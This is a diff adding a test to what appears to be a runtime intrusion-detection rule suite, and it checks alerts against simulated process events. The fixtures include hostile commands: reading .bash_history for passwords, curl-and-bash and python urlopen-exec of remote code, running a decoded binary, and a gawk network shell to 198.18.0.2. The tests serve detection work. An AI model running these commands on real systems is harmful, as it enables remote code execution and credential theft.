@@ -558,3 +558,30 @@ def test_miners_by_arguments_and_by_name(fire: Any, ev: Any) -> None:
     assert fire(ev.exec(10, "/home/code/.cache/kswapd0", "kswapd0", "-o", "stratum+tcp://198.18.0.2:443")) == [
         "crypto_miner_exec"]
     assert fire(ev.exec(11, "/opt/xmrig", "xmrig", "--version")) == ["miner_name_exec"]
+
+
+def test_history_scripts_and_implants(fire: Any, ev: Any) -> None:
+    assert fire(ev.exec(10, "/usr/bin/grep", "grep", "pass", "/home/code/.bash_history"),
+                ev.open(10, "/home/code/.bash_history", comm="grep")) == ["shell_history_read"]
+    assert fire(ev.exec(11, "/bin/bash", "bash", "-i"), ev.open(11, "/home/code/.bash_history")) == []
+    # curl -o /tmp/i.sh URL; bash /tmp/i.sh
+    got = fire(ev.exec(20, "/usr/bin/curl", "curl", "-o", "/tmp/i.sh", "http://x"),
+               ev.open(20, "/tmp/i.sh", kind="write", comm="curl"),
+               ev.exec(21, "/bin/bash", "bash", "/tmp/i.sh"))
+    assert got == ["downloaded_script_run"]
+    assert fire(ev.exec(22, "/usr/bin/python3", "python3", "-c",
+                        "import urllib.request as u; exec(u.urlopen('http://x/p').read())")) == [
+        "interpreter_runs_downloaded_code"]
+    # base64 -d > f; chmod +x f; ./f
+    got = fire(ev.exec(30, "/usr/bin/base64", "base64", "-d", "p.b64"),
+               ev.open(30, "dec", kind="write", comm="base64"), ev.exec(31, "/work/dec", "./dec"))
+    assert got == ["exec_downloaded_file"]
+    # gawk's /inet shell: gawk connects, its coprocess runs sh -c
+    got = fire(ev.exec(40, "/usr/bin/gawk", "gawk", "BEGIN {...}"),
+               ev.connect(40, "198.18.0.2", 443, fd=3, comm="gawk", errno=115),
+               ev.fork(40, 41, comm="gawk"), ev.exec(41, "/bin/sh", "sh", "-c", "id", ppid=40))
+    assert got == ["shell_command_by_network_process"]
+    # pip building a package while holding its index connection is not an implant
+    assert fire(ev.exec(50, "/usr/bin/python3", "python3", "-m", "pip", "install", "x"),
+                ev.connect(50, "151.101.0.223", 443, fd=3, comm="python3"),
+                ev.fork(50, 51, comm="python3"), ev.exec(51, "/bin/sh", "sh", "-c", "gcc x.c", ppid=50)) == []
